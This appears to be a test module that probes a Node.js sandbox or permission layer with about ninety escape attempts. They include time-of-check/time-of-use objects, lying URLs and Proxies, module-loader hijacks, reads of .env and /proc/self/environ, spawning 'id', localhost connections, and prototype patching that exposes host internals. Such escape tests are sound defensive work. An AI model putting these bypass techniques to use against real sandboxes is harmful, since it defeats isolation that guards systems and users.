// Replaces what it can, hands in objects that lie, and tells what it got that it may not have, and what it saw of the host.
import * as allFs from 'node:fs';
import { createRequire } from 'node:module';
const require = createRequire(import.meta.url);
const fs = allFs.default;
const OUT = '@OUT@', IN = '@IN@';
const { apply, ownKeys, getOwnPropertyDescriptor, defineProperty, getPrototypeOf, construct } = Reflect;
const SafeSet = Set, has = Set.prototype.has, add = Set.prototype.add, text = String, ErrorClass = Error;

// Names of functions that no module of Node and no Web class has, so that whoever has one of them is the host's.
const HOSTS = ['startReading', 'shutDown', 'openChannel', 'pendingBytes', 'setTimerRef', 'drainTicks', 'nanoTime', 'requireEsm',
  'requireFacade', 'resolveRequire', 'utf8Length', 'compressor', 'decompressor', 'keyFromParts', 'normalizeKey', 'generateNamed',
  'consoleAllowed', 'consoleDropped', 'stopListeningTo', 'connectFile', 'listenFile', 'reportUncaught', 'frameName', 'rsaCrypt'];
const seen = [];
const looked = new SafeSet();
function look(value, depth) {
  if (value === null || (typeof value !== 'object' && typeof value !== 'function')) return;
  if (depth > 2 || apply(has, looked, [value])) return;
  apply(add, looked, [value]);
  let keys;
  try { keys = ownKeys(value); } catch { return; }
  let files = 0, sends = 0;
  for (let i = 0; i < keys.length && i < 300; i++) {
    const key = keys[i];
    if (typeof key !== 'string') continue;
    for (let k = 0; k < HOSTS.length; k++) if (HOSTS[k] === key) seen[seen.length] = key;
    if (key === 'list' || key === 'remove') files++;
    if (key === 'send' || key === 'cancel') sends++;
    const property = getOwnPropertyDescriptor(value, key);
    if (property !== undefined && 'value' in property) look(property.value, depth + 1);
  }
  if ((files === 2 || sends === 2) && getPrototypeOf(value) === null) seen[seen.length] = files === 2 ? 'files' : 'fetch';
}

function spy(owner, where) {
  let replaced = 0;
  const keys = ownKeys(owner);
  for (let i = 0; i < keys.length; i++) {
    const property = getOwnPropertyDescriptor(owner, keys[i]);
    const original = property.value;
    if (typeof original !== 'function' || keys[i] === 'constructor' || !(property.writable || property.configurable)) continue;
    const wrapper = function (...args) {
      look(this, 0);
      for (let k = 0; k < args.length; k++) look(args[k], 0);
      return new.target === undefined ? apply(original, this, args) : construct(original, args, original);
    };
    try {
      if (property.configurable) defineProperty(owner, keys[i], { ...property, value: wrapper });
      else owner[keys[i]] = wrapper;
      if (owner[keys[i]] === wrapper) replaced++;
    } catch { /* closed */ }
  }
  return replaced;
}

function install() {
  const owners = [Object, Function.prototype, Array, Array.prototype, String.prototype, RegExp.prototype, Map.prototype, Set.prototype,
    WeakMap.prototype, WeakSet.prototype, Promise, Promise.prototype, Reflect, JSON, Number, Number.prototype, Math, ArrayBuffer.prototype,
    getPrototypeOf(Uint8Array.prototype), getPrototypeOf(Uint8Array), DataView.prototype, Date, Date.prototype, Error, Error.prototype,
    Object.prototype, Symbol.prototype, getPrototypeOf([][Symbol.iterator]()), getPrototypeOf(new Map()[Symbol.iterator]()),
    getPrototypeOf(function* () {}.prototype), URL.prototype, URL, Headers.prototype, Request.prototype, Response.prototype,
    EventTarget.prototype, AbortSignal.prototype, TextDecoder.prototype, TextEncoder.prototype, Buffer.prototype, Buffer];
  let replaced = 0;
  for (let i = 0; i < owners.length; i++) replaced += spy(owners[i]);
  // Descriptors and options are objects too: what they do not have comes from here.
  for (const name of ['get', 'set', 'exports', 'groups', 'host', 'send', 'permissions', 'signal', 'method', 'env', 'shell', 'flag', 'mode']) {
    if (name === 'get' || name === 'set') continue; // would make every descriptor an accessor
    try {
      defineProperty(Object.prototype, name, {
        configurable: true,
        get() { look(this, 0); return undefined; },
        set(value) { look(this, 0); look(value, 0); defineProperty(this, name, { value, writable: true, configurable: true, enumerable: true }); },
      });
    } catch { /* closed */ }
  }
  try {
    ErrorClass.prepareStackTrace = (error, sites) => {
      for (let i = 0; i < sites.length; i++) {
        for (const what of ['getThis', 'getFunction', 'getTypeName']) try { look(sites[i][what](), 0); } catch { /* none */ }
      }
      return 'stack';
    };
  } catch { /* closed */ }
  for (const name of ['Map', 'Set', 'WeakMap', 'Promise', 'Proxy', 'Uint8Array']) {
    try {
      const Original = globalThis[name];
      globalThis[name] = new Proxy(Original, {
        construct(target, args, made) { look(args, 0); return construct(target, args, made === globalThis[name] ? target : made); },
        get(target, key) { return target[key]; },
      });
    } catch { /* closed */ }
  }
  return replaced;
}

// Objects that say one thing when they are checked and another when they are used.
const flip = (first, second) => {
  let times = 0;
  const next = () => (times++ === 0 ? first : second);
  return { toString: next, valueOf: next, [Symbol.toPrimitive]: next, get length() { return next().length; } };
};
const flipUrl = (first, second) => {
  const url = new URL(first);
  let times = 0;
  for (const name of ['href', 'protocol', 'host', 'hostname', 'port', 'pathname', 'toString']) {
    const other = new URL(second);
    try {
      defineProperty(url, name, name === 'toString' ? { value: () => second } : { get: () => (times++ < 2 ? new URL(first)[name] : other[name]) });
    } catch { /* closed */ }
  }
  return url;
};
const liar = (target, lies) => new Proxy(target, { get: (object, key) => {
  if (key in lies) return lies[key];
  const value = object[key];
  return typeof value === 'function' ? value.bind(object) : value;
} });
class Odd extends Uint8Array { static get [Symbol.species]() { return function (...args) { look(this, 0); look(args, 0); return new Uint8Array(64); }; } }
class OddBuffer extends Array { static get [Symbol.species]() { return function (...args) { look(args, 0); return []; }; } }
const later = (first, second) => { const list = [first]; let times = 0; defineProperty(list, 0, { get: () => (times++ === 0 ? first : second) }); return list; };

function attempts(port) {
  const secret = OUT + '/s.json', module = OUT + '/s.mjs', here = `http://127.0.0.1:${port}/`, allowed = 'http://allowed.example/';
  const cp = require('child_process'), net = require('net'), http = require('http'), zlib = require('zlib'), crypto = require('crypto');
  const url = require('url'), path = require('path'), dns = require('dns'), util = require('util'), stream = require('stream');
  const event = (make) => new Promise((got, not) => make(got, not));
  const forbidden = [
    () => fs.readFileSync(secret, 'utf8'), () => fs.readFileSync(flip(IN + '/in.txt', secret), 'utf8'),
    () => fs.readFileSync(Buffer.from(secret), 'utf8'), () => fs.readFileSync(new Odd(Buffer.from(secret)), 'utf8'),
    () => fs.readFileSync(flipUrl('file://' + IN + '/in.txt', 'file://' + secret), 'utf8'),
    () => fs.readFileSync(liar(new URL('file://' + IN + '/in.txt'), { pathname: secret, href: 'file://' + secret }), 'utf8'),
    () => fs.readFileSync(liar(Buffer.from(IN + '/in.txt'), { toString: () => secret }), 'utf8'),
    () => fs.readFileSync(Object.assign(new String(IN + '/in.txt'), { toString: () => secret }), 'utf8'),
    () => fs.promises.readFile(flip(IN + '/in.txt', secret), 'utf8'), () => fs.promises.readFile(secret, { get encoding() { return 'utf8'; } }),
    () => fs.readFileSync(fs.openSync(secret), 'utf8'), () => fs.readFileSync(fs.openSync(flip(IN + '/in.txt', secret)), 'utf8'),
    () => fs.readFileSync(IN + '/link.json', 'utf8'), () => fs.readFileSync(IN + '/.env', 'utf8'), () => fs.readFileSync('/proc/self/environ', 'utf8'),
    () => fs.statSync(secret).size + 'hunter2', () => fs.readdirSync(OUT) + 'hunter2', () => fs.realpathSync(secret) + 'hunter2',
    () => fs.readdirSync(flip(IN, OUT)) + 'hunter2', () => fs.existsSync(secret) && 'hunter2', () => fs.opendirSync(OUT).path + 'hunter2',
    () => event((got, not) => fs.createReadStream(flip(IN + '/in.txt', secret)).on('error', not).on('data', (d) => got(text(d)))),
    () => fs.writeFileSync(IN + '/made', 'x') ?? 'hunter2', () => fs.writeFileSync(flip(IN + '/made', IN + '/made'), 'x') ?? 'hunter2',
    () => fs.appendFileSync(IN + '/in.txt', 'x') ?? 'hunter2', () => fs.mkdirSync(IN + '/made') ?? 'hunter2', () => fs.rmSync(IN + '/in.txt') ?? 'hunter2',
    () => fs.renameSync(IN + '/in.txt', IN + '/made') ?? 'hunter2', () => fs.symlinkSync(OUT, IN + '/made') ?? 'hunter2',
    () => fs.linkSync(IN + '/in.txt', IN + '/made') ?? 'hunter2', () => fs.copyFileSync(secret, IN + '/made') ?? 'hunter2',
    () => fs.openSync(IN + '/in.txt', { valueOf: () => 2, toString: () => 'r+' }) + 'hunter2', () => fs.openSync(IN + '/made', 64) + 'hunter2',
    () => fs.truncateSync(IN + '/in.txt') ?? 'hunter2', () => fs.chmodSync(IN + '/in.txt', 0o777) ?? 'hunter2',
    () => import(module).then((m) => m.secret), () => import(flip('./ok.mjs', module)).then((m) => m.secret),
    () => import('file://' + module).then((m) => m.secret), () => import('./link.json', { with: { type: 'json' } }).then((m) => m.default.s),
    () => import('./link.json', { get with() { return { get type() { return 'json'; } }; } }).then((m) => m.default.s),
    () => import(`data:text/javascript,export * from "file://${module}"`).then((m) => m.secret),
    () => require(secret).s, () => require(flip('./ok.json', secret)).s, () => require('module')._load(secret).s,
    () => require('module').createRequire(flip(IN + '/x.js', OUT + '/x.js'))('./s.json').s,
    () => { const M = require('module'); M._resolveFilename = () => secret; return require('./nothing.json').s; },
    () => { const M = require('module'); M._extensions['.json'] = (m, f) => { m.exports = fs.readFileSync(secret, 'utf8'); }; return require('./ok.json'); },
    () => { const M = require('module'); const m = new M(secret); m.filename = secret; m.load?.(secret); return m.exports.s; },
    () => { require.cache[secret] = { exports: null }; delete require.cache[secret]; return require(secret).s; },
    () => new Function('return import("' + module + '")')().then((m) => m.secret), () => (0, eval)('import("' + module + '")').then((m) => m.secret),
    () => fetch(here).then(() => 'hunter2'), () => fetch(flip(allowed, here)).then(() => 'hunter2'), () => fetch(flipUrl(allowed, here)).then(() => 'hunter2'),
    () => fetch(liar(new URL(allowed), { href: here })).then(() => 'hunter2'), () => fetch(liar(new Request(allowed), { url: here })).then(() => 'hunter2'),
    () => fetch(new Request(here)).then(() => 'hunter2'), () => fetch(new (class extends Request { get url() { return here; } })(allowed)).then(() => 'hunter2'),
    () => fetch(Object.defineProperty(new Request(allowed), 'url', { get: () => here })).then(() => 'hunter2'),
    () => fetch(here, { get method() { return 'GET'; }, headers: later(['host', 'allowed.example'], ['host', 'allowed.example']) }).then(() => 'hunter2'),
    () => event((got, not) => net.connect(port, '127.0.0.1', () => got('hunter2')).on('error', not)),
    () => event((got, not) => net.connect({ port, get host() { return this.n++ ? '127.0.0.1' : 'allowed.example'; }, n: 0 }, () => got('hunter2')).on('error', not)),
    () => event((got, not) => net.connect({ port, host: 'allowed.example', lookup: (h, o, done) => done(null, o?.all ? [{ address: '127.0.0.1', family: 4 }] : '127.0.0.1', 4) }, () => got('hunter2')).on('error', not)),
    () => event((got, not) => http.get(here, () => got('hunter2')).on('error', not)),
    () => event((got, not) => http.get({ port, hostname: flip('allowed.example', '127.0.0.1') }, () => got('hunter2')).on('error', not)),
    () => event((got, not) => http.get({ socketPath: OUT + '/socket' }, () => got('hunter2')).on('error', not)),
    () => event((got, not) => net.createServer().listen(0, '127.0.0.1', () => got('hunter2')).on('error', not)),
    () => event((got, not) => net.createServer().listen({ path: IN + '/made' }, () => got('hunter2')).on('error', not)),
    () => event((got, not) => dns.lookup('localhost', (e) => (e ? not(e) : got('hunter2')))),
    () => cp.execSync('id') + 'hunter2', () => cp.spawnSync('id').output + (cp.spawnSync('id').error ? '' : 'hunter2'),
    () => cp.execFileSync(flip('nothing', 'id')) + 'hunter2', () => cp.execFileSync('/usr/bin/env', later('true', 'id')) + 'hunter2',
    () => cp.spawnSync('id', { get shell() { return true; } }).stdout + (cp.spawnSync('id').error ? '' : 'hunter2'),
    () => event((got, not) => cp.spawn('id').on('error', not).on('exit', () => got('hunter2'))), () => cp.fork(IN + '/ok.mjs') && 'hunter2',
    () => process.kill(process.pid, 0) && 'hunter2', () => process.binding('fs') && 'hunter2', () => process.dlopen({}, 'x') ?? 'hunter2',
    () => process.env.PATH && 'hunter2', () => Object.keys(process.env).length > 0 && 'hunter2', () => process.chdir('/') ?? 'hunter2',
    () => Java.type('java.lang.System') && 'hunter2', () => Polyglot.eval('js', '1') && 'hunter2', () => load(secret) && 'hunter2',
    () => new (require('worker_threads').Worker)('x', { eval: true }) && 'hunter2',
  ];
  const usual = [
    () => fs.readFileSync(IN + '/in.txt', 'utf8'), () => fs.statSync(IN + '/in.txt').size, () => fs.readdirSync(IN), () => fs.promises.readFile(IN + '/in.txt'),
    () => event((got, not) => fs.createReadStream(IN + '/in.txt').on('error', not).on('close', got).resume()), () => fs.promises.open(IN + '/in.txt').then((f) => f.close()),
    () => import('./ok.mjs'), () => require('./ok.json'), () => crypto.createHash('sha256').update('a').digest('hex'), () => crypto.randomBytes(8),
    () => crypto.pbkdf2Sync('a', 'b', 10, 16, 'sha256'), () => crypto.scryptSync('a', 'b', 16, { N: 16 }), () => crypto.createHmac('sha1', 'k').update('x').digest(),
    () => crypto.createCipheriv('aes-128-gcm', new Odd(16), new Odd(12)).update('x'), () => crypto.generateKeyPairSync('ec', { namedCurve: 'P-256' }),
    () => globalThis.crypto.getRandomValues(new Odd(8)), () => globalThis.crypto.subtle.digest('SHA-256', new Odd(8)),
    () => globalThis.crypto.subtle.generateKey({ get name() { return 'AES-GCM'; }, length: 128 }, true, ['encrypt']), () => globalThis.crypto.randomUUID(),
    () => zlib.gzipSync(new Odd(8)), () => zlib.inflateSync(zlib.deflateSync('abc')), () => event((got, not) => zlib.gzip('a', (e, d) => (e ? not(e) : got(d)))), () => zlib.crc32('a'),
    () => event((got) => setTimeout(got, 1)), () => event((got) => setImmediate(got)), () => event((got) => process.nextTick(got)), () => clearInterval(setInterval(() => {}, 1000)),
    () => structuredClone(new Map([[1, { a: [new Odd(2)] }]])), () => structuredClone(liar({}, {})), () => new TextDecoder().decode(new Odd([104])), () => new TextEncoder().encode('h'),
    () => Buffer.from('aGk=', 'base64').toString('hex'), () => Buffer.concat(later(Buffer.from('a'), Buffer.from('b'))), () => atob(btoa('a')), () => new URL('http://a/b?c').searchParams.get('c'),
    () => url.parse(allowed).host, () => path.join('a', 'b'), () => util.inspect(new Map([[1, Promise.resolve()]])), () => util.inspect(liar({}, {}), { showProxy: true }),
    () => new Response('a').text(), () => new Blob([new Odd(3)]).arrayBuffer(), () => new Response(new Blob(['x']).stream().pipeThrough(new CompressionStream('gzip'))).arrayBuffer(),
    () => stream.promises.pipeline(stream.Readable.from(OddBuffer.from([Buffer.from('a')])), zlib.createGzip(), new stream.PassThrough().resume()),
    () => performance.now(), () => performance.mark('a'), () => process.hrtime(), () => process.memoryUsage(), () => process.cwd(), () => process.uptime(), () => console.log('x'),
    () => new MessageChannel().port1.close(), () => new BroadcastChannel('a').close(), () => new AbortController().abort(), () => navigator.hardwareConcurrency,
    () => new (require('events'))().emit('x'), () => require('os').cpus(), () => require('perf_hooks').performance.now(), () => require('async_hooks').executionAsyncId(),
    () => require('http').request({ host: 'allowed.example' }).on('error', () => {}).destroy(), () => { throw new Error('a'); }, () => new Error('x').stack, () => [].x.y,
  ];
  return { forbidden, usual };
}

export async function attack(port) {
  const { forbidden, usual } = attempts(port);
  const got = [];
  let tried = 0;
  const tell = async (attempt, index) => {
    tried++;
    let timer;
    const late = new Promise((done) => { timer = setTimeout(done, 5000, 'late'); });
    try {
      const value = text(await Promise.race([attempt(), late]));
      if (index >= 0 && value.includes('hunter2')) got[got.length] = `${index}: ${value}`;
      look(value, 0);
    } catch (error) {
      look(error, 0);
    } finally {
      clearTimeout(timer);
    }
  };
  for (let i = 0; i < usual.length; i++) await tell(usual[i], -1);
  const replaced = install();
  for (let i = 0; i < usual.length; i++) await tell(usual[i], -1);
  for (let i = 0; i < forbidden.length; i++) await tell(forbidden[i], i);
  return { tried: tried - usual.length, replaced, got, seen };
}

/** What it notices of something that looks like the host's, handed to a method that it has replaced. */
export const sees = () => {
  new Map().set('group', { __proto__: null, drainTicks() {} });
  return seen;
};
